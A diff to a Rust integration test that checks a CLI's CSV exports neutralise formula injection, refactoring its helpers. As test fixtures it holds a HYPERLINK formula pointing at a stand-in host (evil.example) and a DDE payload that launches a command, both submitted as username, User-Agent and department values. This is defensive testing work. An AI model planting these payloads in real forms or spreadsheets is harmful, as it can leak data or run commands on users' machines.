@@ -1,8 +1,9 @@
 //! What the CLI writes for spreadsheets: every CSV cell an attacker could choose is shown as
 //! text, never run as a formula.
 
-use crate::helpers::{Env, browser, stderr, stdout};
-use crate::mfa::hidden;
+use twofold_testkit::{Env, stderr, stdout};
+
+use crate::BIN;
 
 const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?x","click")"#;
 const DDE: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
@@ -32,13 +33,6 @@ fn assert_no_formula(b: &str, what: &str, csv: &str) {
     }
 }
 
-/// `YYYY-MM-DD`, `days` from today (UTC). The wall clock is right here: the CLI runs on it.
-#[allow(clippy::disallowed_methods)]
-fn date(days: i64) -> String {
-    let day = time::OffsetDateTime::now_utc().date() + time::Duration::days(days);
-    format!("{:04}-{:02}-{:02}", day.year(), u8::from(day.month()), day.day())
-}
-
 /// Attack: CSV formula injection. Without an account, an attacker posts the sign-in form
 /// with the username `=HYPERLINK("http://evil.example/?x","click")` (and a DDE payload as
 /// User-Agent); the failed attempt is audited with that name. Someone who can edit a
@@ -48,15 +42,15 @@ fn date(days: i64) -> String {
 /// value kept, prefixed with `'`.
 #[tokio::test]
 async fn formula_payloads_in_usernames_and_departments_are_neutralised_in_every_csv() {
-    for env in Env::all().await {
+    for env in Env::all(BIN).await {
         let b = env.backend;
         let server = env.serve(&[]).await;
-        let web = browser();
-        let page = web.get(format!("{}/login", server.url)).send().await.unwrap().text().await.unwrap();
+        let web = server.browser();
+        let (csrf, _) = web.csrf("/login").await;
         let attempt = web
             .post(format!("{}/login", server.url))
             .header(reqwest::header::USER_AGENT, AGENT)
-            .form(&[("username", HYPERLINK), ("password", "whatever-it-is"), ("csrf", &hidden(&page, "csrf"))])
+            .form(&[("username", HYPERLINK), ("password", "whatever-it-is"), ("csrf", &csrf)])
             .send()
             .await
             .unwrap();
@@ -81,14 +75,14 @@ async fn formula_payloads_in_usernames_and_departments_are_neutralised_in_every_
         assert!(env.cli(&["group", "add", "ops"]).status.success(), "{b}");
         let added = env.cli(&["user", "add", "mallory", "--department", DDE, "--group", "ops"]);
         assert!(added.status.success(), "{b}: {}", stderr(&added));
-        let file = env.data_dir.join("..").join("campaign.toml");
+        let file = env.path("campaign.toml");
         std::fs::write(
             &file,
             format!(
                 "name = \"Rollout\"\ntarget = {{ percent = 95, within_days = 90 }}\n\n[[phase]]\nname = \"all\"\n\
                  cohort = {{ groups = [\"ops\"] }}\nstarts = \"{}\"\ndeadline = \"{}\"\ngrace_days = 5\n",
-                date(-1),
-                date(30)
+                env.date(-1),
+                env.date(30)
             ),
         )
         .unwrap();
